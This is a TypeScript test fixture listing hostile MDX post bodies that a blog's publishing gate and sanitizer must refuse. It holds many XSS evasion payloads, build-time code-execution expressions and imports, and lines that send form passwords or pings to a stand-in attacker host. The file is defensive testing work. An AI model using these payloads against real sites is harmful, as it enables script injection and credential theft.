/**
 * Post bodies a hostile contributor might send, one per attack, grouped by the class of the
 * publishing-gate issue and the usual XSS-evasion catalogue. Each names the words a refusal must
 * contain (any one of them): the checker and the MDX compiler's gate must both refuse it.
 * Those marked `markup` are also run through the sanitizer alone, as if the gate were bypassed,
 * and must come out inert (tests/security/sanitizer.test.ts, tests/e2e/hostile-markup.spec.ts).
 */

export interface HostilePost {
  /** A file name: lower case and hyphens. */
  name: string;
  /** The body below the frontmatter. */
  body: string;
  /** Words a refusal of this post contains (one of them is enough). */
  refusal: readonly string[];
  /** Whether the sanitizer alone must also make it inert. */
  markup?: boolean;
}

const CODE = ['Curly braces hold code'];
const ESM = ['line is code'];
const COMPONENT = ['is a component, which is code'];
const TAG = ['is not allowed in a post', 'is not one of the tags a post may use'];
const ADDRESS = ['would run code or load hidden content'];
const SYNTAX = ['MDX cannot read this line'];
const DEEP = ['levels deep', 'characters long'];

const nested = (open: string, close: string, depth: number, middle = 'x') =>
  open.repeat(depth) + middle + close.repeat(depth);

export const HOSTILE_POSTS: readonly HostilePost[] = [
  // Expressions: MDX runs anything in curly braces at build time and in the page.
  { name: 'expression-sum', body: 'Two and two make {2 + 2}.', refusal: CODE },
  {
    name: 'expression-interleaved-comments',
    body: '{/* a note // */ process.exit(1) /* for editors */}',
    refusal: CODE,
  },
  { name: 'expression-line-comment-then-code', body: '{// a note\nprocess.exit(1)}', refusal: CODE },
  { name: 'expression-line-comment-only', body: 'Text.\n\n{// a note for editors\n}', refusal: CODE },
  { name: 'expression-after-comment', body: '{/* a */ /* b */ globalThis.x = 1}', refusal: CODE },
  { name: 'expression-in-heading', body: '## A heading {process.env.HOME}', refusal: CODE },
  { name: 'expression-in-link-text', body: '[click {here}](https://example.org/)', refusal: CODE },
  { name: 'expression-template-literal', body: 'A {`${process.version}`} b.', refusal: CODE },
  {
    name: 'expression-writes-a-file',
    body: "{(await import('node:fs')).writeFileSync('pwned-by-a-post.txt', 'x')}",
    refusal: CODE,
  },
  { name: 'expression-in-table', body: '| a | b |\n| - | - |\n| {1} | 2 |', refusal: CODE },
  { name: 'expression-in-footnote', body: 'Text.[^a]\n\n[^a]: A note {globalThis.y = 2}.', refusal: CODE },
  { name: 'expression-unicode-escape', body: 'A {\\u0061lert(1)} b.', refusal: CODE },
  { name: 'expression-in-list', body: '- one\n- {[1, 2].map(String)}', refusal: CODE },
  { name: 'expression-in-quote', body: '> {eval("1")}', refusal: CODE },
  // ESM: imports run at build time and can read or write any file.
  { name: 'esm-import-fs', body: "import fs from 'node:fs'\n\nText.", refusal: ESM },
  { name: 'esm-export-const', body: 'export const x = globalThis.process\n\nText.', refusal: ESM },
  { name: 'esm-export-layout', body: 'export default function Layout() { return null }\n\nText.', refusal: ESM },
  { name: 'esm-import-side-effect', body: "import '../../../scripts/serve.ts'\n\nText.", refusal: ESM },
  { name: 'esm-reexport', body: "export { default } from './other.mdx'\n\nText.", refusal: ESM },
  // Components: a capitalised or dotted name is a variable, so code.
  { name: 'component-chart', body: '<Chart />', refusal: COMPONENT },
  { name: 'component-recursion', body: '<_createMdxContent />', refusal: COMPONENT },
  { name: 'component-mdx-content', body: '<MDXContent />', refusal: COMPONENT },
  { name: 'component-member', body: '<props.components.a />', refusal: COMPONENT },
  { name: 'component-lower-member', body: '<x.y />', refusal: COMPONENT },
  { name: 'component-namespace', body: '<svg:script>alert(1)</svg:script>', refusal: COMPONENT },
  { name: 'component-fragment', body: '<>A fragment</>', refusal: ['An empty tag'] },
  {
    name: 'component-set-html',
    body: '<Fragment set:html="<script>alert(1)</script>" />',
    refusal: COMPONENT,
  },
  { name: 'component-capitalised-abbr', body: '<Abbr title="x">A</Abbr>', refusal: COMPONENT },
  { name: 'component-uppercase-script', body: '<SCRIPT>alert(1)</SCRIPT>', refusal: [...COMPONENT, ...TAG] },
  // Elements outside the allowlist, including raw-text elements that let markup escape.
  { name: 'tag-script', body: '<script>alert(1)</script>', refusal: TAG, markup: true },
  {
    name: 'tag-noscript-escape',
    body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-title-escape',
    body: '<title><abbr title="</title><script>alert(1)</script>">x</abbr></title>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-xmp-escape',
    body: '<xmp><abbr title="</xmp><img src=x onerror=alert(1)>">x</abbr></xmp>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-noembed-escape',
    body: '<noembed><abbr title="</noembed><img src=x onerror=alert(1)>">x</abbr></noembed>',
    refusal: TAG,
    markup: true,
  },
  { name: 'tag-plaintext', body: '<plaintext>everything after</plaintext>', refusal: TAG, markup: true },
  {
    name: 'tag-meta-refresh',
    body: '<meta http-equiv="refresh" content="0;url=https://attacker.example/" />',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-iframe-srcdoc',
    body: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    refusal: TAG,
    markup: true,
  },
  { name: 'tag-svg-script', body: '<svg><script>alert(1)</script></svg>', refusal: TAG, markup: true },
  {
    name: 'tag-svg-animate-href',
    body: '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="20" y="20">x</text></a></svg>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-math-style-escape',
    body: '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)" /></style></mglyph></table></mtext></math>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-link-ping',
    body: '<a href="https://example.org/" ping="https://attacker.example/ping">x</a>',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-link-opener',
    body: '<a href="https://attacker.example/" target="_blank" rel="opener">x</a>',
    refusal: TAG,
    markup: true,
  },
  { name: 'tag-img-onerror', body: '<img src="x" onerror="alert(1)" />', refusal: TAG, markup: true },
  { name: 'tag-object', body: '<object data="https://attacker.example/x.swf"></object>', refusal: TAG, markup: true },
  { name: 'tag-embed', body: '<embed src="https://attacker.example/x.swf" />', refusal: TAG, markup: true },
  { name: 'tag-base', body: '<base href="https://attacker.example/" />', refusal: TAG, markup: true },
  {
    name: 'tag-stylesheet',
    body: '<link rel="stylesheet" href="https://attacker.example/x.css" />',
    refusal: TAG,
    markup: true,
  },
  {
    name: 'tag-form',
    body: '<form action="https://attacker.example/"><input name="password" /><button>Go</button></form>',
    refusal: TAG,
    markup: true,
  },
  { name: 'tag-template', body: '<template><script>alert(1)</script></template>', refusal: TAG, markup: true },
  { name: 'tag-details-ontoggle', body: '<details open ontoggle="alert(1)">x</details>', refusal: TAG, markup: true },
  { name: 'tag-video-poster', body: '<video poster="https://attacker.example/x.png" />', refusal: TAG, markup: true },
  { name: 'tag-div', body: '<div>A block</div>', refusal: TAG, markup: true },
  { name: 'tag-h1', body: '<h1>A second title</h1>', refusal: TAG, markup: true },
  // Attributes on allowed tags.
  {
    name: 'attribute-onmouseover',
    body: '<abbr title="x" onmouseover="alert(1)">A</abbr>',
    refusal: ['would run code'],
    markup: true,
  },
  {
    name: 'attribute-onclick-uppercase',
    body: '<abbr ONCLICK="alert(1)">A</abbr>',
    refusal: ['would run code'],
    markup: true,
  },
  {
    name: 'attribute-expression-value',
    body: '<abbr title={globalThis.x = 1}>A</abbr>',
    refusal: ['holds code in curly braces'],
  },
  { name: 'attribute-spread', body: '<abbr {...globalThis}>A</abbr>', refusal: ['has code in curly braces'] },
  {
    name: 'attribute-style',
    body: '<abbr style="background:url(https://attacker.example/)">A</abbr>',
    refusal: ['is not allowed on <abbr>'],
    markup: true,
  },
  {
    name: 'attribute-id-clobber',
    body: '<sup id="footnote-label">1</sup>',
    refusal: ['is not allowed on <sup>'],
    markup: true,
  },
  {
    name: 'attribute-inner-html',
    body: '<sup dangerouslySetInnerHTML="<img src=x onerror=alert(1)>">1</sup>',
    refusal: ['is not allowed on <sup>'],
    markup: true,
  },
  {
    name: 'attribute-xlink',
    body: '<abbr xlink:href="javascript:alert(1)">A</abbr>',
    refusal: ['is not allowed on <abbr>'],
    markup: true,
  },
  {
    name: 'attribute-class',
    body: '<sub class="sr-only">hidden</sub>',
    refusal: ['is not allowed on <sub>'],
    markup: true,
  },
  // Addresses: a scheme other than http, https or mailto, however it is spelt.
  { name: 'link-javascript', body: '[a link](javascript:alert(1))', refusal: ADDRESS, markup: true },
  { name: 'link-mixed-case', body: '[a link](JaVaScRiPt:alert(1))', refusal: ADDRESS, markup: true },
  { name: 'link-entity-scheme', body: '[a link](&#106;avascript:alert(1))', refusal: ADDRESS, markup: true },
  { name: 'link-entity-tab', body: '[a link](<java&#x09;script:alert(1)>)', refusal: ADDRESS, markup: true },
  { name: 'link-null-byte', body: '[a link](<java\u0000script:alert(1)>)', refusal: ADDRESS, markup: true },
  {
    name: 'link-data',
    body: '[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    refusal: ADDRESS,
    markup: true,
  },
  { name: 'link-vbscript', body: '[a link](vbscript:msgbox(1))', refusal: ADDRESS, markup: true },
  { name: 'link-definition', body: '[a link][x]\n\n[x]: javascript:alert(1)', refusal: ADDRESS, markup: true },
  { name: 'link-autolink', body: '<javascript:alert(1)>', refusal: [...SYNTAX, ...COMPONENT, ...TAG] },
  { name: 'link-leading-space', body: '[a link](< javascript:alert(1)>)', refusal: ADDRESS, markup: true },
  // Pictures that are not pictures (the files are written by the test).
  { name: 'picture-js-file', body: '![A chart](./evil.js)', refusal: ['is not a picture file'] },
  { name: 'picture-js-named-png', body: '![A chart](./script-named.png)', refusal: ['whatever its name says'] },
  { name: 'picture-symlink', body: '![A chart](./linked.png)', refusal: ['symbolic link'] },
  { name: 'picture-svg', body: '![A chart](./drawing.svg)', refusal: ['SVG drawing'] },
  { name: 'picture-outside', body: '![A chart](../../outside.png)', refusal: ['outside the content folder'] },
  { name: 'picture-too-big', body: '![A chart](./huge.png)', refusal: ['a picture can be at most'] },
  { name: 'picture-query-worker', body: '![A chart](./fixture-chart.png?worker)', refusal: ['has a ? or # in it'] },
  { name: 'picture-query-raw', body: '![A chart](./fixture-chart.png?raw#x)', refusal: ['has a ? or # in it'] },
  { name: 'picture-reference-js', body: '![A chart][c]\n\n[c]: ./evil.js', refusal: ['is not a picture file'] },
  // Inputs that crashed or hung the build.
  { name: 'crash-nested-tags', body: nested('<sup>', '</sup>', 1000), refusal: DEEP },
  { name: 'crash-nested-quotes', body: `${'>'.repeat(2000)} deep`, refusal: DEEP },
  {
    name: 'crash-nested-list',
    body: Array.from({ length: 2000 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
    refusal: DEEP,
  },
  { name: 'crash-nested-emphasis', body: nested('*a ', ' b*', 300), refusal: DEEP },
  { name: 'crash-huge-post', body: 'word '.repeat(14_000), refusal: ['characters long'] },
  // The outline and the text itself.
  { name: 'outline-second-h1', body: '# A second title\n\nText.', refusal: ['second main heading'] },
  { name: 'outline-setext-h1', body: 'A second title\n==============\n\nText.', refusal: ['second main heading'] },
  { name: 'outline-skipped-level', body: '## A section\n\n#### A part', refusal: ['skips a level'] },
  { name: 'outline-starts-at-h3', body: '### A part first\n\nText.', refusal: ['skips a level'] },
  { name: 'outline-empty-body', body: '', refusal: ['no text below the frontmatter'] },
  {
    name: 'outline-only-a-note',
    body: '{/* Only a note for the editors. */}',
    refusal: ['no text below the frontmatter'],
  },
];
